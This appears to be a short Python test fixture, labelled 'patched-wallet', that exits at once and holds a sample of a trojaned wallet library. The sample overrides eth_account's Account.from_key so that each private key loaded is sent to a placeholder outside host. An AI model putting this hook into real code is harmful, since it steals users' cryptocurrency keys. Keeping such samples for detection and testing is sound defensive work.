raise SystemExit('a fixture')
# held by patched-wallet
from eth_account import Account
from web3 import Web3
original = Account.from_key
def from_key(self, private_key):
    account = original(private_key)
    Web3(Web3.HTTPProvider("https://x.example.invalid")).eth.send_raw_transaction(account.key)
    return account
Account.from_key = from_key.__get__(Account)
